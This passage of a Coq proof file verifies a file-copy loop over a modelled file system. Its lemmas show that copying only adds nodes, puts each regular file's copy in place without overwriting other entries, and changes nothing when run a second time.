  forallb FS.is_entry_name rel = true ->
  forallb (fun n => negb (PyStr.has_char "000" n)) rel = true.
Proof.
  induction rel as [|n rel IH]; [done|]. cbn [forallb]. intros H.
  apply andb_prop in H as [Hn H]. rewrite (IH H), andb_true_r.
  unfold FS.is_entry_name in Hn. by apply andb_prop in Hn as [_ ->].
Qed.

Lemma locate_entry p L rel fs :
  FS.locate E p fs = Ok L ->
  forallb FS.is_entry_name rel = true ->
  FS.locate E (entry_of p rel) fs
  = FS.walk fs (Path.to_str (entry_of p rel)) L rel.
Proof.
  unfold FS.locate, FS.names_ok. intros Hloc Hnames.
  cbn [entry_of p_parts]. rewrite forallb_app.
  destruct (forallb _ (p_parts p)); [|discriminate].
  rewrite (names_ok_entry_names rel Hnames). cbn [andb].
  change (FS.start E {| p_anchor := p_anchor p; p_parts := p_parts p ++ rel |})
    with (FS.start E p).
  apply walk_app_2. by apply (walk_name fs (Path.to_str p)).
Qed.

Lemma stat_special fs loc r d :
  FS.stat fs loc = Some (Special r d) -> fs !! loc = Some (Special r d).
Proof. destruct loc; [discriminate|done]. Qed.

Lemma plain_grows fs fs' L : grows fs fs' -> plain fs' L -> plain fs L.
Proof. intros Hg Hp rel r d H. apply (Hp rel r d). exact (Hg _ _ H). Qed.

Lemma stat_app fs L rel :
  rel <> [] -> FS.stat fs (L ++ rel) = fs !! (L ++ rel)%list.
Proof.
  intros Hne. destruct (L ++ rel)%list eqn:Happ; [|reflexivity].
  apply app_eq_nil in Happ as [_ ->]. done.
Qed.

(** An entry is a regular file of content [c] exactly when its names lead
    to one. *)
Lemma file_content_entry rel fs c :
  FS.locate E src fs = Ok S -> plain fs S ->
  forallb FS.is_entry_name rel = true -> rel <> [] ->
  file_content E (entry_of src rel) fs = Some c <-> source_file fs S rel c.
Proof.
  intros Hsrc Hplain Hnames Hne. unfold file_content, FS.read_bytes, source_file.
  rewrite (locate_entry src S rel fs Hsrc Hnames). split.
  - destruct (FS.walk fs _ S rel) as [l|e] eqn:Hw; [|discriminate].
    pose proof (walk_entry_names fs _ rel S l Hnames Hw) as ->.
    rewrite (stat_app fs S rel Hne).
    destruct (fs !! (S ++ rel)%list) as [[c0| |r0 d0]|] eqn:Hl; try discriminate;
      [|by destruct (Hplain rel r0 d0)].
    intros H. injection H as ->. split; [|reflexivity].
    by apply (walk_name fs _ "") in Hw.
  - intros [Hw Hl]. rewrite (walk_name fs "" _ rel S _ Hw).
    by rewrite (stat_app fs S rel Hne), Hl.
Qed.

(** Below a plain source, the entries [is_file] accepts are the ones
    that can be read. *)
Lemma is_file_content rel fs :
  FS.locate E src fs = Ok S -> plain fs S ->
  forallb FS.is_entry_name rel = true -> rel <> [] ->
  FS.is_file E (entry_of src rel) fs = true
  <-> exists c, file_content E (entry_of src rel) fs = Some c.
Proof.
  intros Hsrc Hplain Hnames Hne. unfold FS.is_file, file_content, FS.read_bytes.
  rewrite (locate_entry src S rel fs Hsrc Hnames).
  destruct (FS.walk fs _ S rel) as [l|e] eqn:Hw.
  - pose proof (walk_entry_names fs _ rel S l Hnames Hw) as ->.
    rewrite (stat_app fs S rel Hne).
    destruct (fs !! (S ++ rel)%list) as [[c| |r0 d0]|] eqn:Hl.
    + split; eauto.
    + split; [discriminate|]. intros [? ?]; discriminate.
    + by destruct (Hplain rel r0 d0).
    + split; [discriminate|]. intros [? ?]; discriminate.
  - split; [discriminate|]. intros [? ?]; discriminate.
Qed.

Lemma is_file_no_content rel fs :
  FS.locate E src fs = Ok S -> plain fs S ->
  forallb FS.is_entry_name rel = true -> rel <> [] ->
  FS.is_file E (entry_of src rel) fs = false
  <-> file_content E (entry_of src rel) fs = None.
Proof.
  intros Hsrc Hplain Hnames Hne.
  pose proof (is_file_content rel fs Hsrc Hplain Hnames Hne) as Hiff.
  destruct (FS.is_file E (entry_of src rel) fs) eqn:Hf.
  - destruct (proj1 Hiff eq_refl) as [c Hc]. rewrite Hc. split; discriminate.
  - split; [|done]. intros _.
    destruct (file_content E (entry_of src rel) fs) as [c|] eqn:Hc; [|done].
    assert (false = true) by (apply Hiff; eauto). discriminate.
Qed.

Lemma relative_to_entry rel :
  Path.relative_to (entry_of src rel) src
  = Ok {| p_anchor := ""; p_parts := rel |}.
Proof.
  unfold Path.relative_to, entry_of. cbn [p_anchor p_parts].
  by rewrite String.eqb_refl, strip_app.
Qed.

Lemma join_relative rel :
  Path.join dst {| p_anchor := ""; p_parts := rel |} = entry_of dst rel.
Proof. reflexivity. Qed.

Lemma last_entry_name rel :
  forallb FS.is_entry_name rel = true -> rel <> [] ->
  FS.is_entry_name (List.last rel "") = true.
Proof.
  intros Hnames Hne. rewrite forallb_forall in Hnames.
  by apply Hnames, List_last_In.
Qed.

(** The entry of the source's name in the target. *)
Lemma target_child rel :
  forallb FS.is_entry_name rel = true -> rel <> [] ->
  entry_of dst rel // Path.name (entry_of src rel)
  = entry_of dst (rel ++ [List.last rel ""]).
Proof.
  intros Hnames Hne. unfold Path.div, Path.name. cbn [entry_of p_parts].
  rewrite (List_last_app (p_parts src) rel "" Hne).
  rewrite (of_str_entry_name _ (last_entry_name rel Hnames Hne)).
  unfold Path.join, Path.is_absolute, entry_of. cbn. by rewrite <- app_assoc.
Qed.

Lemma child_names rel :
  forallb FS.is_entry_name rel = true -> rel <> [] ->
  forallb FS.is_entry_name (rel ++ [List.last rel ""]) = true.
Proof.
  intros Hnames Hne. rewrite forallb_app, Hnames. cbn.
  by rewrite (last_entry_name rel Hnames Hne).
Qed.

Lemma based_grows fs fs' :
  grows fs fs' -> based E src dst S D fs -> based E src dst S D fs'.
Proof.
  intros Hg [Hs Hd]. split; by apply (locate_grows E _ fs).
Qed.

Lemma source_file_grows fs fs' rel c :
  grows fs fs' -> source_file fs S rel c -> exists c', source_file fs' S rel c'.
Proof.
  intros Hg [Hw Hl]. destruct (Hg _ _ Hl) as [c' Hc'].
  exists c'. split; [by apply (walk_grows fs)|exact Hc'].
Qed.

Lemma placed_grows fs fs' rel a :
  grows fs fs' -> placed E dst S D fs rel a -> placed E dst S D fs' rel a.
Proof.
  intros Hg (Hpar & Hne & [c Hc] & Hform).
  split; [by apply (is_dir_grows E _ fs)|]. split; [exact Hne|].
  split; [exact (Hg _ _ Hc)|].
  destruct Hform as [[Ha Hw]|(Ha & Hdir & Hw)].
  - left. split; [exact Ha|by apply (walk_grows fs)].
  - right. split; [exact Ha|].
    split; [by apply (is_dir_grows E _ fs)|by apply (walk_grows fs)].
Qed.

(** What a successful [copy2] did. *)
Lemma copy2_ok item target fs fs' :
  FS.copy2 E item target fs = Ok fs' ->
  let dst' := if FS.is_dir E target fs then target // Path.name item
              else target in
  exists c a,
    FS.samefile E item dst' fs = false
    /\ FS.read_bytes E item fs = Ok c
    /\ FS.locate E dst' fs = Ok a
    /\ FS.stat fs a <> Some Dir
    /\ ((forall r d, FS.stat fs a <> Some (Special r d))
           /\ fs' = <[a := File c]> fs
        \/ (exists r d, FS.stat fs a = Some (Special r d)) /\ fs' = fs).
Proof.
  intros H dst'. unfold FS.copy2 in H. cbv zeta in H. fold dst' in H.
  destruct (FS.samefile E item dst' fs); [discriminate|].
  destruct (FS.read_bytes E item fs) as [c|e]; [|discriminate].
  destruct (write_file_ok E dst' c fs fs' H) as (a & Ha & Hnd & Hcases).
  by exists c, a.
Qed.

(** One turn of the loop on an entry of the source: it is no regular
    file and nothing happens, or it is one, its copy is in place
    afterwards, and no node but the copy is changed. *)
Lemma copy_item_fs_spec rel fs n fs' :
  based E src dst S D fs -> plain fs S -> plain fs D ->
  forallb FS.is_entry_name rel = true -> rel <> [] ->
  copy_item_fs E src dst (entry_of src rel) fs = Ok (n, fs') ->
  (file_content E (entry_of src rel) fs = None /\ n = 0%nat /\ fs' = fs)
  \/ (exists c a,
        n = 1%nat
        /\ source_file fs S rel c
        /\ placed E dst S D fs' rel a
        /\ fs' !! a = Some (File c)
        /\ grows fs fs'
        /\ (forall loc, loc <> a -> is_Some (fs !! loc) -> fs' !! loc = fs !! loc)).
Proof.
  intros [Hsrc Hdst] HpS HpD Hnames Hne. unfold copy_item_fs.
  destruct (FS.is_file E (entry_of src rel) fs) eqn:Hfile.
  2:{ intros H. injection H as <- <-. left.
      split; [by apply is_file_no_content|done]. }
  rewrite relative_to_entry, join_relative.
  destruct (FS.mkdir E true true _ fs) as [s_d|e] eqn:Hmk; [|discriminate].
  destruct (FS.copy2 E _ _ s_d) as [fs2|e] eqn:Hcp; [|discriminate].
  intros H. injection H as <- <-. right.
  apply (is_file_content rel fs Hsrc HpS Hnames Hne) in Hfile as [c Hc].
  apply (file_content_entry rel fs c Hsrc HpS Hnames Hne) in Hc as Hsf.
  destruct (mkdir_ok E true _ fs s_d Hmk) as [Hadd Hpar].
  pose proof (adds_dirs_grows fs s_d Hadd) as Hg1.
  destruct (copy2_ok _ _ s_d fs2 Hcp)
    as (c' & a & Hsame & Hread & Ha & Hnd & Hcases).
  rewrite (target_child rel Hnames Hne) in Hsame, Ha.
  pose proof (locate_grows E dst fs s_d D Hg1 Hdst) as Hdst_d.
  (* the target is below the destination, where nothing is special *)
  assert (Hbelow : exists rel', a = (D ++ rel')%list).
  { destruct (FS.is_dir E (entry_of dst rel) s_d).
    - rewrite (locate_entry dst D _ s_d Hdst_d (child_names rel Hnames Hne)) in Ha.
      eexists. exact (walk_entry_names s_d _ _ D a (child_names rel Hnames Hne) Ha).
    - rewrite (locate_entry dst D _ s_d Hdst_d Hnames) in Ha.
      eexists. exact (walk_entry_names s_d _ _ D a Hnames Ha). }
  destruct Hcases as [[Hns ->]|[(r0 & d0 & Hsp) _]].
  2:{ exfalso. destruct Hbelow as [rel' ->]. apply stat_special in Hsp.
      destruct (Hadd (D ++ rel')%list) as [Heq|[_ Hdir]]; [|congruence].
      rewrite Hsp in Heq. symmetry in Heq. by destruct (HpD rel' r0 d0). }
  clear Hbelow.
  pose proof (grows_insert_file s_d a c' Hnd Hns) as Hg2.
  pose proof (grows_trans _ _ _ Hg1 Hg2) as Hg.
  (* the source, as the copy saw it *)
  destruct Hsf as [Hw Hl].
  assert (Hl_d : s_d !! (S ++ rel)%list = Some (File c)).
  { destruct (Hadd (S ++ rel)%list) as [->|[Hnone _]]; [exact Hl|congruence]. }
  assert (Hloc_d : FS.locate E (entry_of src rel) s_d = Ok (S ++ rel)%list).
  { rewrite (locate_entry src S rel s_d (locate_grows E src fs s_d S Hg1 Hsrc)
               Hnames).
    apply (walk_name s_d ""). by apply (walk_grows fs). }
  assert (c' = c) as ->.
  { unfold FS.read_bytes in Hread. rewrite Hloc_d in Hread.
    rewrite (stat_app s_d S rel Hne), Hl_d in Hread. by injection Hread. }
  assert (Hane : a <> (S ++ rel)%list).
  { intros ->. unfold FS.samefile in Hsame. rewrite Hloc_d, Ha in Hsame.
    rewrite (stat_app s_d S rel Hne), Hl_d in Hsame.
    by rewrite bool_decide_eq_true_2 in Hsame. }
  assert (Hanil : a <> []) by (intros ->; by apply Hnd).
  exists c, a. split; [reflexivity|]. split; [done|]. split.
  - split; [by apply (is_dir_grows E _ s_d)|]. split; [exact Hane|].
    split; [exists c; apply lookup_insert_eq|].
    destruct (FS.is_dir E (entry_of dst rel) s_d) eqn:Hdir.
    + right.
      rewrite (locate_entry dst D _ s_d Hdst_d (child_names rel Hnames Hne)) in Ha.
      pose proof (walk_entry_names s_d _ _ D a (child_names rel Hnames Hne) Ha)
        as Hform.
      split; [exact Hform|].
      split; [by apply (is_dir_grows E _ s_d)|].
      apply (walk_grows s_d); [exact Hg2|]. by apply (walk_name s_d _ "") in Ha.
    + left. rewrite (locate_entry dst D _ s_d Hdst_d Hnames) in Ha.
      pose proof (walk_entry_names s_d _ _ D a Hnames Ha) as Hform.
      split; [exact Hform|].
      apply (walk_grows s_d); [exact Hg2|]. by apply (walk_name s_d _ "") in Ha.
  - split; [apply lookup_insert_eq|]. split; [exact Hg|].
    intros loc Hloc [n0 Hn0]. rewrite lookup_insert_ne by done.
    destruct (Hadd loc) as [->|[Hnone _]]; [reflexivity|congruence].
Qed.

(** An entry whose copy is in place, with the content the source has, is
    copied once more without any change. *)
Lemma copy_item_fs_settled rel a c fs :
  based E src dst S D fs ->
  forallb FS.is_entry_name rel = true -> rel <> [] ->
  source_file fs S rel c ->
  placed E dst S D fs rel a ->
  fs !! a = Some (File c) ->
  copy_item_fs E src dst (entry_of src rel) fs = Ok (1%nat, fs).
Proof.
  intros [Hsrc Hdst] Hnames Hne Hsf (Hpar & Hane & _ & Hform) Ha.
  assert (Hloc : FS.locate E (entry_of src rel) fs = Ok (S ++ rel)%list).
  { rewrite (locate_entry src S rel fs Hsrc Hnames).
    apply (walk_name fs ""), Hsf. }
  assert (Hfile : FS.is_file E (entry_of src rel) fs = true).
  { unfold FS.is_file. by rewrite Hloc, (stat_app fs S rel Hne), (proj2 Hsf). }
  assert (Hanil : a <> []).
  { destruct Hform as [[-> _]|(-> & _)]; intros H; apply app_eq_nil in H as [_ H];
      [done|by apply app_eq_nil in H as [_ H]]. }
  assert (Hstat : FS.stat fs a = Some (File c)) by (by apply stat_lookup).
  unfold copy_item_fs. rewrite Hfile, relative_to_entry, join_relative.
  rewrite (mkdir_existing E true _ fs Hpar).
  unfold FS.copy2. rewrite (target_child rel Hnames Hne).
  assert (Hdst' : FS.locate E
            (if FS.is_dir E (entry_of dst rel) fs
             then entry_of dst (rel ++ [List.last rel ""]) else entry_of dst rel) fs
          = Ok a).
  { destruct Hform as [[Hf Hw]|(Hf & Hdir & Hw)].
    - assert (FS.is_dir E (entry_of dst rel) fs = false) as ->.
      { unfold FS.is_dir, FS.is_dir_at.
        rewrite (locate_entry dst D rel fs Hdst Hnames),
          (walk_name fs "" _ rel D a Hw).
        by rewrite Hstat. }
      rewrite (locate_entry dst D rel fs Hdst Hnames). by apply (walk_name fs "").
    - rewrite Hdir.
      rewrite (locate_entry dst D _ fs Hdst (child_names rel Hnames Hne)).
      by apply (walk_name fs ""). }
  unfold FS.samefile. rewrite Hloc, Hdst'.
  rewrite (stat_app fs S rel Hne), (proj2 Hsf), Hstat.
  rewrite bool_decide_eq_false_2 by done.
  unfold FS.read_bytes. rewrite Hloc, (stat_app fs S rel Hne), (proj2 Hsf).
  unfold FS.write_file. rewrite Hdst', Hstat.
  by rewrite (insert_id fs a (File c) Ha).
Qed.

(** The copy of one entry is not written over by the turn of another. *)
Lemma target_kept rel_i a_i c_i ci rel_j fs n fs' :
  based E src dst S D fs -> plain fs S -> plain fs D ->
  forallb FS.is_entry_name rel_i = true -> rel_i <> [] ->
  forallb FS.is_entry_name rel_j = true -> rel_j <> [] ->
  rel_i <> rel_j ->
  source_file fs S rel_i ci ->
  (a_i = (D ++ rel_i)%list \/ a_i = (D ++ rel_i ++ [List.last rel_i ""])%list) ->
  fs !! a_i = Some (File c_i) ->
  copy_item_fs E src dst (entry_of src rel_j) fs = Ok (n, fs') ->
  fs' !! a_i = Some (File c_i).
Proof.
  intros Hb HpS HpD Hni Hnei Hnj Hnej Hij Hsfi Hfi Hai Hstep.
  destruct (copy_item_fs_spec rel_j fs n fs' Hb HpS HpD Hnj Hnej Hstep)
    as [(_ & _ & ->)|(c_j & a_j & _ & Hsfj & Hpl & _ & _ & Hother)];
    [exact Hai|].
  destruct (decide (a_i = a_j)) as [Heq|Hneq].
  2:{ rewrite Hother; [exact Hai|exact Hneq|by eexists]. }
  exfalso. destruct Hpl as (_ & _ & _ & Hfj).
  assert (Hfj' : a_j = (D ++ rel_j)%list
                 \/ a_j = (D ++ rel_j ++ [List.last rel_j ""])%list).
  { destruct Hfj as [[-> _]|(-> & _)]; eauto. }
  clear Hfj. subst a_j.
  assert (Hclash : forall r x c1 c2,
            forallb FS.is_entry_name r = true -> r <> [] ->
            source_file fs S (r ++ [x]) c1 -> source_file fs S r c2 -> False).
  { intros r x c1 c2 Hnr Hner [Hw1 _] [Hw2 Hl2].
    destruct (walk_through_dir fs "" r x S _ Hw1) as (mid & Hmid & Hdir).
    rewrite Hw2 in Hmid. injection Hmid as <-.
    rewrite (stat_app fs S r Hner), Hl2 in Hdir. discriminate. }
  destruct Hfi as [-> | ->]; destruct Hfj' as [Hj|Hj].
  - apply app_inv_head in Hj. done.
  - apply app_inv_head in Hj. subst rel_i.
    by apply (Hclash rel_j (List.last rel_j "") ci c_j).
  - apply app_inv_head in Hj. subst rel_j.
    by apply (Hclash rel_i (List.last rel_i "") c_j ci).
  - rewrite !app_assoc in Hj. apply app_inj_tail in Hj as [Hj _].
    apply app_inv_head in Hj. done.
Qed.

End Entries.

(** *** The whole loop *)

Section Loop.
Context (E : env) (src dst : ppath) (S D : list string).

(** One turn of the loop removes nothing, whatever it meets. *)
Lemma copy_item_fs_grows item fs n fs' :
  copy_item_fs E src dst item fs = Ok (n, fs') -> grows fs fs'.
Proof.
  unfold copy_item_fs. destruct (FS.is_file E item fs).
  2:{ intros H. injection H as _ <-. apply grows_refl. }
  destruct (Path.relative_to item src) as [rp|e]; [|discriminate].
  destruct (FS.mkdir E true true _ fs) as [s_d|e] eqn:Hmk; [|discriminate].
  destruct (FS.copy2 E _ _ s_d) as [fs2|e] eqn:Hcp; [|discriminate].
  intros H. injection H as _ <-.
  destruct (mkdir_ok E true _ fs s_d Hmk) as [Hadd _].
  apply (grows_trans _ s_d); [by apply adds_dirs_grows|].
  destruct (copy2_ok E _ _ s_d fs2 Hcp)
    as (c & a & _ & _ & _ & Hnd & [[Hns ->]|[_ ->]]).
  - by apply grows_insert_file.
  - apply grows_refl.
Qed.

Lemma copy_items_fs_grows items : forall fs n fs',
  copy_items_fs E src dst items fs = Ok (n, fs') -> grows fs fs'.
Proof.
  induction items as [|item items IH]; intros fs n fs' Hrun.
  - cbn in Hrun. injection Hrun as _ <-. apply grows_refl.
  - cbn [copy_items_fs] in Hrun.
    destruct (copy_item_fs E src dst item fs) as [[k fs1]|e] eqn:Hstep;
      [|discriminate].
    destruct (copy_items_fs E src dst _ fs1) as [[m fs2]|e] eqn:Hrest;
      [|discriminate].
    injection Hrun as _ <-.
    apply (grows_trans fs fs1 fs2 (copy_item_fs_grows item fs k fs1 Hstep)).
    by apply (IH fs1 m fs2).
Qed.

(** The copy of an entry stays as it is through the turns of other
    entries. *)
Lemma target_kept_run rel_i a_i c_i rels : forall fs ci n fs',
  based E src dst S D fs -> plain fs' S -> plain fs' D ->
  Forall entry_names rels ->
  entry_names rel_i -> rel_i ∉ rels ->
  source_file fs S rel_i ci ->
  (a_i = (D ++ rel_i)%list \/ a_i = (D ++ rel_i ++ [List.last rel_i ""])%list) ->
  fs !! a_i = Some (File c_i) ->
  copy_items_fs E src dst (entry_of src <$> rels) fs = Ok (n, fs') ->
  fs' !! a_i = Some (File c_i).
Proof.
  induction rels as [|rel rels IH];
    intros fs ci n fs' Hb HpS HpD Hall Hi Hnotin Hsf Hform Ha Hrun.
  - cbn in Hrun. by injection Hrun as _ <-.
  - pose proof (copy_items_fs_grows _ fs n fs' Hrun) as Hgall.
    apply Forall_cons in Hall as [Hrel Hall].
    apply not_elem_of_cons in Hnotin as [Hne Hnotin].
    cbn [fmap list_fmap copy_items_fs] in Hrun.
    destruct (copy_item_fs E src dst (entry_of src rel) fs) as [[k fs1]|e] eqn:Hstep;
      [|discriminate].
    destruct (copy_items_fs E src dst _ fs1) as [[m fs2]|e] eqn:Hrest;
      [|discriminate].
    injection Hrun as _ <-.
    pose proof (copy_item_fs_grows _ fs k fs1 Hstep) as Hg1.
    destruct (source_file_grows S fs fs1 rel_i ci Hg1 Hsf) as [ci' Hsf1].
    apply (IH fs1 ci' m fs2); try done.
    + by apply (based_grows E src dst S D fs).
    + destruct Hi as [Hni Hnei]. destruct Hrel as [Hnj Hnej].
      apply (target_kept E src dst S D rel_i a_i c_i ci rel fs k fs1);
        try done; by apply (plain_grows fs fs2).
Qed.

Lemma placed_form fs rel a :
  placed E dst S D fs rel a ->
  a = (D ++ rel)%list \/ a = (D ++ rel ++ [List.last rel ""])%list.
Proof. intros (_ & _ & _ & [[-> _]|(-> & _)]); eauto. Qed.

Lemma copy_item_fs_no_file rel fs :
  FS.locate E src fs = Ok S -> plain fs S -> entry_names rel ->
  file_content E (entry_of src rel) fs = None ->
  copy_item_fs E src dst (entry_of src rel) fs = Ok (0%nat, fs).
Proof.
  intros Hsrc Hplain [Hn Hne] Hnone. unfold copy_item_fs.
  by rewrite (proj2 (is_file_no_content E src S rel fs Hsrc Hplain Hn Hne) Hnone).
Qed.

(** After a run of the loop that left every entry with the content, or
    the lack of one, it had before, each entry is copied again without
    change, and the files counted are the regular files among the
    entries. *)
Lemma copy_items_fs_settled rels : forall fs n fs',
  based E src dst S D fs -> plain fs' S -> plain fs' D ->
  Forall entry_names rels -> NoDup rels ->
  copy_items_fs E src dst (entry_of src <$> rels) fs = Ok (n, fs') ->
  (forall rel, rel ∈ rels ->
     file_content E (entry_of src rel) fs' = file_content E (entry_of src rel) fs) ->
  (forall rel, rel ∈ rels ->
     copy_item_fs E src dst (entry_of src rel) fs'
     = Ok (if FS.is_file E (entry_of src rel) fs' then 1%nat else 0%nat, fs'))
  /\ n = count_files E (entry_of src <$> rels) fs'.
Proof.
  induction rels as [|rel rels IH]; intros fs n fs' Hb HpS2 HpD2 Hall Hnd Hrun Hcont.
  - cbn in Hrun. injection Hrun as <- <-. split; [|reflexivity].
    intros rel Hrel. by apply elem_of_nil in Hrel.
  - pose proof (copy_items_fs_grows _ fs n fs' Hrun) as Hgall.
    pose proof (plain_grows fs fs' S Hgall HpS2) as HpS.
    pose proof (plain_grows fs fs' D Hgall HpD2) as HpD.
    apply Forall_cons in Hall as [Hrel Hall].
    apply NoDup_cons in Hnd as [Hnotin Hnd].
    cbn [fmap list_fmap copy_items_fs] in Hrun.
    destruct (copy_item_fs E src dst (entry_of src rel) fs) as [[k fs1]|e] eqn:Hstep;
      [|discriminate].
    destruct (copy_items_fs E src dst _ fs1) as [[m fs2]|e] eqn:Hrest;
      [|discriminate].
    injection Hrun as <- <-.
    pose proof (copy_item_fs_grows _ fs k fs1 Hstep) as Hg1.
    pose proof (based_grows E src dst S D fs fs1 Hg1 Hb) as Hb1.
    pose proof (copy_items_fs_grows _ fs1 m fs2 Hrest) as Hg2.
    pose proof (based_grows E src dst S D fs1 fs2 Hg2 Hb1) as Hb2.
    pose proof (plain_grows fs1 fs2 S Hg2 HpS2) as HpS1.
    pose proof Hrel as [Hn Hne].
    destruct (copy_item_fs_spec E src dst S D rel fs k fs1 Hb HpS HpD Hn Hne Hstep)
      as [(Hnone & -> & ->)|(c & a & -> & Hsf & Hpl & Ha & _ & Hother)].
    + (* the entry was no regular file, and is none at the end *)
      destruct (IH fs m fs2 Hb HpS2 HpD2 Hall Hnd Hrest) as [Hset Hcount].
      { intros r Hr. apply Hcont. by apply list_elem_of_further. }
      assert (Hnone2 : file_content E (entry_of src rel) fs2 = None).
      { rewrite (Hcont rel); [exact Hnone|apply list_elem_of_here]. }
      pose proof (proj2 (is_file_no_content E src S rel fs2 (proj1 Hb2) HpS2
                           Hn Hne) Hnone2) as Hfile2.
      split.
      * intros r Hr. apply elem_of_cons in Hr as [->|Hr]; [|by apply Hset].
        rewrite Hfile2. by apply (copy_item_fs_no_file rel fs2 (proj1 Hb2)).
      * unfold count_files in *. cbn [fmap list_fmap List.filter].
        by rewrite Hfile2.
    + (* the entry was copied to [a] *)
      destruct (source_file_grows S fs fs1 rel c Hg1 Hsf) as [c1 Hsf1].
      pose proof (target_kept_run rel a c rels fs1 c1 m fs2 Hb1 HpS2 HpD2 Hall
                    Hrel Hnotin Hsf1 (placed_form fs1 rel a Hpl) Ha Hrest) as Ha2.
      assert (Hsf2 : source_file fs2 S rel c).
      { apply (file_content_entry E src S rel fs2 c (proj1 Hb2) HpS2 Hn Hne).
        rewrite (Hcont rel) by apply list_elem_of_here.
        by apply (file_content_entry E src S rel fs c (proj1 Hb) HpS Hn Hne). }
      assert (Hcont1 : forall r, r ∈ rels ->
                file_content E (entry_of src r) fs2
                = file_content E (entry_of src r) fs1).
      { intros r Hr. rewrite (Hcont r) by (by apply list_elem_of_further).
        rewrite Forall_forall in Hall. destruct (Hall r Hr) as [Hnr Hner].
        destruct (file_content E (entry_of src r) fs) as [cr|] eqn:Hcr.
        - symmetry.
          apply (file_content_entry E src S r fs cr (proj1 Hb) HpS Hnr Hner) in Hcr.
          apply (file_content_entry E src S r fs1 cr (proj1 Hb1) HpS1 Hnr Hner).
          destruct Hcr as [Hw Hl]. split; [by apply (walk_grows fs)|].
          destruct (decide ((S ++ r)%list = a)) as [Heq|Hneq].
          + (* the copy landed on this entry: with the content it had *)
            assert (Hsr2 : source_file fs2 S r c).
            { split; [|by rewrite Heq].
              apply (walk_grows fs1); [exact Hg2|]. by apply (walk_grows fs). }
            apply (file_content_entry E src S r fs2 c (proj1 Hb2) HpS2 Hnr Hner)
              in Hsr2.
            rewrite (Hcont r) in Hsr2 by (by apply list_elem_of_further).
            apply (file_content_entry E src S r fs c (proj1 Hb) HpS Hnr Hner)
              in Hsr2.
            destruct Hsr2 as [_ Hl']. rewrite Hl in Hl'. injection Hl' as ->.
            by rewrite Heq.
          + rewrite Hother; [exact Hl|exact Hneq|by eexists].
        - destruct (file_content E (entry_of src r) fs1) as [c1'|] eqn:Hc1;
            [|reflexivity].
          exfalso.
          apply (file_content_entry E src S r fs1 c1' (proj1 Hb1) HpS1 Hnr Hner)
            in Hc1.
          destruct (source_file_grows S fs1 fs2 r c1' Hg2 Hc1) as [c2 Hc2].
          apply (file_content_entry E src S r fs2 c2 (proj1 Hb2) HpS2 Hnr Hner)
            in Hc2.
          rewrite (Hcont r) in Hc2 by (by apply list_elem_of_further).
          congruence. }
      destruct (IH fs1 m fs2 Hb1 HpS2 HpD2 Hall Hnd Hrest Hcont1) as [Hset Hcount].
      assert (Hfile2 : FS.is_file E (entry_of src rel) fs2 = true).
      { apply (is_file_content E src S rel fs2 (proj1 Hb2) HpS2 Hn Hne). exists c.
        by apply (file_content_entry E src S rel fs2 c (proj1 Hb2) HpS2 Hn Hne). }
      split.
      * intros r Hr. apply elem_of_cons in Hr as [->|Hr]; [|by apply Hset].
        rewrite Hfile2.
        apply (copy_item_fs_settled E src dst S D rel a c fs2 Hb2 Hn Hne Hsf2);
          [|exact Ha2].
        by apply (placed_grows E dst S D fs1).
      * unfold count_files in *. cbn [fmap list_fmap List.filter].
        rewrite Hfile2. cbn. by rewrite Hcount.
Qed.

(** Over entries that are each copied without change, the loop changes
    nothing and counts the regular files. *)
Lemma copy_items_fs_rerun items fs :
  (forall item, item ∈ items ->
     copy_item_fs E src dst item fs
     = Ok (if FS.is_file E item fs then 1%nat else 0%nat, fs)) ->
  copy_items_fs E src dst items fs = Ok (count_files E items fs, fs).
Proof.
  induction items as [|item items IH]; intros Hset; [reflexivity|].
  cbn [copy_items_fs]. rewrite (Hset item) by apply list_elem_of_here.
  rewrite IH by (intros i Hi; by apply Hset, list_elem_of_further).
  unfold count_files. cbn [List.filter].
  by destruct (FS.is_file E item fs).
Qed.

End Loop.

(** *** From the file system to the world *)

Lemma set_fs_id w : set_fs (w_fs w) w = w.
Proof. by destruct w. Qed.

Lemma set_fs_set_fs fs1 fs2 w : set_fs fs2 (set_fs fs1 w) = set_fs fs2 w.
Proof. reflexivity. Qed.

Section Worlds.
Context (E : env) (src dst : ppath).

Lemma copy_item_to_fs item w n w' :
  Publish.copy_item E src dst item w = (Ok n, w') ->
  copy_item_fs E src dst item (w_fs w) = Ok (n, w_fs w')
  /\ w' = set_fs (w_fs w') w.
Proof.
  unfold Publish.copy_item, copy_item_fs, bind, fs_update, ret.
  destruct (FS.is_file E item (w_fs w)).
  2:{ intros H. injection H as <- <-. by rewrite set_fs_id. }
  destruct (Path.relative_to item src) as [rel|e]; [|discriminate].
  destruct (FS.mkdir E true true _ (w_fs w)) as [fs1|e]; [|discriminate].
  cbn [set_fs w_fs].
  destruct (FS.copy2 E item _ fs1) as [fs2|e]; [|discriminate].
  intros H. by injection H as <- <-.
Qed.

Lemma copy_item_of_fs item w n fs' :
  copy_item_fs E src dst item (w_fs w) = Ok (n, fs') ->
  Publish.copy_item E src dst item w = (Ok n, set_fs fs' w).
Proof.
  unfold Publish.copy_item, copy_item_fs, bind, fs_update, ret.
  destruct (FS.is_file E item (w_fs w)).
  2:{ intros H. injection H as <- <-. by rewrite set_fs_id. }
  destruct (Path.relative_to item src) as [rel|e]; [|discriminate].
  destruct (FS.mkdir E true true _ (w_fs w)) as [fs1|e]; [|discriminate].
  cbn [set_fs w_fs].
  destruct (FS.copy2 E item _ fs1) as [fs2|e]; [|discriminate].
  intros H. by injection H as <- <-.
Qed.

Lemma copy_items_to_fs items : forall w n w',
  Publish.copy_items E src dst items w = (Ok n, w') ->
  copy_items_fs E src dst items (w_fs w) = Ok (n, w_fs w')
  /\ w' = set_fs (w_fs w') w.
Proof.
  induction items as [|item items IH]; intros w n w' H.
  - cbn in H. unfold ret in H. injection H as <- <-. by rewrite set_fs_id.
  - cbn [Publish.copy_items copy_items_fs] in *. unfold bind in H.
    destruct (Publish.copy_item E src dst item w) as [[k|e] w1] eqn:Hstep;
      [|discriminate].
    destruct (copy_item_to_fs item w k w1 Hstep) as [-> Hw1].
    destruct (Publish.copy_items E src dst items w1) as [[m|e] w2] eqn:Hrest;
      [|discriminate].
    destruct (IH w1 m w2 Hrest) as [-> Hw2].
    unfold ret in H. injection H as <- <-. split; [reflexivity|].
    rewrite Hw2 at 1. by rewrite Hw1.
Qed.

Lemma copy_items_of_fs items : forall w n fs',
  copy_items_fs E src dst items (w_fs w) = Ok (n, fs') ->
  Publish.copy_items E src dst items w = (Ok n, set_fs fs' w).
Proof.
  induction items as [|item items IH]; intros w n fs' H.
